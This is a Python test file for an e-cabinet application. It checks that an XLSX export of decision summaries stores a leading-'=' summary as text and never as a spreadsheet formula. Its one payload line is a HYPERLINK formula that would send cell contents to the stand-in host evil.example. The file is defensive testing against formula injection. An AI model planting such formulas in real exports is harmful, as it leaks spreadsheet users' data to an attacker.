"""The outgoing exchange register's export writes a decision's summary as it is: a summary
beginning with "=" must stay text in the clerk's spreadsheet, never a formula (the decisions'
register: tests/decisions/test_register_exports_injection.py; the guard:
ecabinet.registers.exports)."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from ecabinet.database import unit_of_work
from ecabinet.decisions.models import Decision
from ecabinet.extensions import db
from tests.conftest import bearer
from tests.interchange.outgoing.conftest import FINANCE, issue

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A4,"Xem chi tiết")'


def test_xlsx_summary_is_not_a_formula(app, client, office, signed_decision, token_for):
    decision_id = signed_decision(office.finance_id)
    with app.app_context(), unit_of_work():
        db.session.get(Decision, decision_id).summary = PAYLOAD
    issue(app, office, decision_id)
    response = client.get("/interchange/outgoing?format=xlsx",
                          headers=bearer(token_for(office.clerk)))
    assert response.status_code == 200
    (row,) = load_workbook(io.BytesIO(response.data)).active.iter_rows(min_row=4)
    assert row[4].value == FINANCE
    summary = row[2]
    assert summary.data_type != "f", f"the summary is stored as a formula: {summary.value!r}"
    assert summary.value == PAYLOAD
